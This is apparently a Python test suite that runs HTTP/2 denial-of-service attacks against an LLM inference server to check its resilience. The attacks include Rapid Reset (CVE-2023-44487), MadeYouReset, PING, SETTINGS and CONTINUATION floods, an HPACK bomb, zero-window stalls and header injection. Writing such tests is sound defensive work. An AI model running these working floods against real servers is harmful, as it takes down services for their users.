"""Attacks by means of HTTP/2."""

import socket
import struct
import time

import http2_frames as h2
from attack import attack, chat, completion
from slow_readers import SHORT_DEADLINE
from wire import reset

LARGE = completion([5] * 900, prompt_logprobs=20, n=2, max_tokens=1)
STREAM = chat(stream=True, max_tokens=900, ignore_eos=True, logprobs=True, top_logprobs=20)


def close(sockets):
    for s in sockets:
        reset(s)


@attack("http2", is_load=True, limit_s=60)
def window_zero(target):
    """One connection with a window of 0 requests hundreds of large answers and reads none."""
    s = h2.open_connection(target, initial_window=0)
    s.settimeout(1)
    end = time.monotonic() + 12 * target.intensity
    stream = 1
    while time.monotonic() < end:
        data = b"".join(
            h2.request(target, stream + 2 * n, {**LARGE, "n": 1 + n}, path="/v1/completions") for n in range(8)
        )
        stream += 16
        try:
            s.sendall(data)
        except OSError:
            break
        time.sleep(0.25)
    close([s])


@attack("http2", soak=False, arguments=("--config", SHORT_DEADLINE))
def window_zero_deadline(target):
    """A stream whose window stays 0 is ended by the deadline of slow readers, which is 3 s here."""
    s = h2.open_connection(target, initial_window=0)
    s.sendall(h2.request(target, 1, STREAM))
    started = time.monotonic()
    found, closed = h2.frames(s, 15, until=lambda f: f[0] in (h2.RESET, h2.GOAWAY))
    seconds = time.monotonic() - started
    gone = closed or any(f[0] in (h2.RESET, h2.GOAWAY) for f in found)
    target.claim(
        gone and seconds < 12,
        f"a stream with window 0 was {'ended' if gone else 'there'} after {seconds:.1f} s (at most 12)",
    )
    idle = target.wait_idle(5)
    target.claim(idle, "its request has left the engine")
    close([s])


@attack("http2", is_load=True, limit_s=60)
def windows_zero_on_many_connections(target):
    """Forty connections with 100 streams each, all with a window of 0."""
    sockets = []
    for _ in range(target.times(40)):
        s = h2.open_connection(target, initial_window=0)
        s.settimeout(1)
        try:
            s.sendall(
                b"".join(
                    h2.request(
                        target,
                        1 + 2 * n,
                        STREAM if n % 2 else LARGE,
                        path="/v1/chat/completions" if n % 2 else "/v1/completions",
                    )
                    for n in range(25)
                )
            )
        except OSError:
            pass
        sockets.append(s)
    time.sleep(10 * target.intensity)
    close(sockets)


@attack("http2")
def window_drip(target):
    """Windows are opened by one byte at a time."""
    s = h2.open_connection(target, initial_window=0)
    s.sendall(b"".join(h2.request(target, 1 + 2 * n, STREAM) for n in range(50)))
    end = time.monotonic() + 6 * target.intensity
    while time.monotonic() < end:
        try:
            s.sendall(b"".join(h2.window(1, 1 + 2 * n) for n in range(50)))
        except OSError:
            break
        time.sleep(0.02)
    close([s])


@attack("http2")
def rapid_reset(target):
    """20,000 requests are each reset right after they are sent (CVE-2023-44487)."""
    before = target.metric("vllm:generation_tokens_total")
    s = h2.open_connection(target)
    body = chat(max_tokens=400, ignore_eos=True)
    s.settimeout(2)
    n_sent = target.times(20_000)
    for n in range(n_sent):
        stream = 1 + 2 * n
        try:
            s.sendall(
                h2.request(target, stream, body) + h2.frame(h2.RESET, stream=stream, payload=struct.pack(">I", 8))
            )
        except OSError:
            n_sent = n
            break
    over = h2.ended(s, 3)
    target.claim(over, f"the connection was {'ended' if over else 'kept'} after {n_sent} resets")
    target.wait_idle(10)
    tokens = target.metric("vllm:generation_tokens_total") - before
    target.claim(tokens <= 8000, f"{tokens:.0f} tokens computed for requests that were reset (at most 8000)")
    close([s])


@attack("http2")
def made_you_reset(target):
    """Requests are followed by frames that make the server reset its own streams (CVE-2025-8671)."""
    s = h2.open_connection(target)
    s.settimeout(2)
    body = chat(max_tokens=400, ignore_eos=True)
    faults = (
        lambda stream: h2.window(0, stream),
        lambda stream: h2.window((1 << 31) - 1, stream),
        lambda stream: h2.frame(h2.DATA, 0, stream, b"x"),
        lambda stream: h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", stream, 1)),
    )
    n_sent = target.times(5000)
    for n in range(n_sent):
        stream = 1 + 2 * n
        try:
            s.sendall(h2.request(target, stream, body) + faults[n % len(faults)](stream))
        except OSError:
            n_sent = n
            break
    over = h2.ended(s, 3)
    target.claim(over, f"the connection was {'ended' if over else 'kept'} after {n_sent} streams")
    target.wait_idle(10)
    close([s])


def flood(target, what, data, times, must_end=True):
    s = h2.open_connection(target)
    taken = h2.send_until_closed(s, data, target.times(times))
    over = h2.ended(s, 3)
    if must_end:
        target.claim(
            over, f"{what}: {'GOAWAY or closed' if over else 'kept'} after {taken} of {target.times(times)} writes"
        )
    reset(s)


@attack("http2", quick=True)
def ping_flood(target):
    """A million PINGs whose answers are not read."""
    flood(target, "PING flood", h2.frame(h2.PING, payload=b"01234567") * 1000, 1000)


@attack("http2")
def settings_flood(target):
    """Half a million SETTINGS whose acknowledgements are not read."""
    flood(target, "SETTINGS flood", h2.settings(initial_window=65535) * 500, 1000)


@attack("http2")
def empty_frames(target):
    """Floods of empty frames: DATA, HEADERS, PRIORITY, WINDOW_UPDATE, unknown types."""
    start = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.fields(target))
    s = h2.open_connection(target)
    s.sendall(start)
    taken = h2.send_until_closed(s, h2.frame(h2.DATA, 0, 1) * 1000, target.times(300))
    over = h2.ended(s, 3)
    target.claim(True, f"empty DATA: {'ended' if over else 'kept'} after {taken * 1000} frames")
    reset(s)
    flood(target, "PRIORITY", h2.frame(h2.PRIORITY, 0, 3, struct.pack(">IB", 5, 1)) * 1000, 200, must_end=False)
    flood(target, "WINDOW_UPDATE", h2.window(1) * 1000, 200, must_end=False)
    flood(target, "unknown frames", h2.frame(200, 0, 0, b"x" * 100) * 100, 200, must_end=False)


@attack("http2", quick=True)
def continuation_flood(target):
    """A header block that never ends, in CONTINUATION frames."""
    s = h2.open_connection(target)
    s.sendall(h2.frame(h2.HEADERS, 0, 1, h2.fields(target)))
    taken = h2.send_until_closed(s, h2.frame(h2.CONTINUATION, 0, 1, h2.field("a", "b" * 4000)), target.times(20_000))
    over = h2.ended(s, 3)
    target.claim(over, f"CONTINUATION flood: {'ended' if over else 'kept'} after {taken} frames")
    reset(s)


@attack("http2")
def header_table(target):
    """A field of 4 KB in the dynamic table is referenced ten thousand times (the HPACK bomb)."""
    s = h2.open_connection(target)
    s.sendall(
        h2.frame(
            h2.HEADERS,
            h2.END_HEADERS | h2.END_STREAM,
            1,
            h2.fields(target, "/health", "GET") + h2.field("x-bomb", "b" * 4000, indexed=True),
        )
    )
    block = h2.fields(target, "/health", "GET") + b"\xbe" * 10_000
    for n in range(target.times(200)):
        try:
            s.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 3 + 2 * n, block))
        except OSError:
            break
    time.sleep(1)
    reset(s)
    s = h2.open_connection(target)
    # The table's size is changed repeatedly inside the header blocks.
    for n in range(target.times(500)):
        sizes = (h2.number(4096, 5, 0x20) + h2.number(0, 5, 0x20)) * 500
        try:
            s.sendall(
                h2.frame(
                    h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1 + 2 * n, sizes + h2.fields(target, "/health", "GET")
                )
            )
        except OSError:
            break
    reset(s)


@attack("http2")
def broken_frames(target):
    """Frames with random wrong sizes, streams, flags and padding: never a crash, and each connection is either usable
    or closed."""
    kept = 0
    for _ in range(target.times(400)):
        s = h2.open_connection(target)
        for _ in range(8):
            payload = target.random.randbytes(target.random.choice((0, 1, 4, 5, 8, 9, 100)))
            data = h2.frame(
                target.random.randrange(12),
                target.random.randrange(256),
                target.random.choice((0, 1, 2, 3, 1 << 31)),
                payload,
            )
            if target.random.random() < 0.1:
                data = data[:-1]
            try:
                s.sendall(data)
            except OSError:
                break
        kept += 1
        reset(s)
    target.claim(True, f"{kept} connections with random frames")


@attack("http2")
def pseudo_headers(target):
    """Requests whose pseudo fields are missing, doubled, late or contradict the host."""
    authority = f"{target.host}:{target.port}"
    base = h2.field(":method", "GET") + h2.field(":scheme", "http")
    path, name = h2.field(":path", "/health"), h2.field(":authority", authority)
    blocks = {
        "no path": base + name,
        "two paths": base + path + path + name,
        "late method": path + name + h2.field("a", "b") + base,
        "upper case": base + path + name + h2.field("Host", authority),
        "connection": base + path + name + h2.field("connection", "close"),
        "transfer-encoding": base + path + name + h2.field("transfer-encoding", "chunked"),
        "unknown pseudo": base + path + name + h2.field(":evil", "1"),
        "newline in value": base + path + name + h2.field("a", "b\r\nc: d"),
        "another host": base + path + h2.field(":authority", "evil.example"),
        "host differs": base + path + name + h2.field("host", "evil.example"),
        "empty path": base + h2.field(":path", "") + name,
    }
    accepted = []
    for what, block in blocks.items():
        s = h2.open_connection(target)
        s.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, block))
        found, _ = h2.frames(s, 2, until=lambda f: f[2] == 1 or f[0] == h2.GOAWAY)
        # Status 200 is one byte of HPACK's static table.
        if any(f[0] == h2.HEADERS and f[3][:1] == b"\x88" for f in found):
            accepted.append(what)
        reset(s)
    target.claim(not accepted, f"malformed requests that got 200: {', '.join(accepted) or 'none'}")


@attack("http2")
def short_bodies(target):
    """Bodies longer or shorter than announced, padded to the limit, and endless trailers."""
    for announced, sent in ((10, 20), (20, 10), (0, 5), (1 << 40, 10)):
        s = h2.open_connection(target)
        s.sendall(
            h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.fields(target, length=announced))
            + h2.frame(h2.DATA, h2.END_STREAM, 1, b"x" * sent)
        )
        found, closed = h2.frames(s, 2, until=lambda f: f[2] == 1 or f[0] == h2.GOAWAY)
        target.claim(closed or found, f"{announced} bytes announced, {sent} sent: answered or reset")
        s.close()
    s = h2.open_connection(target)
    s.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.fields(target)))
    padded = h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + b"x" + b"\0" * 255)
    h2.send_until_closed(s, padded * 100, target.times(300))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()
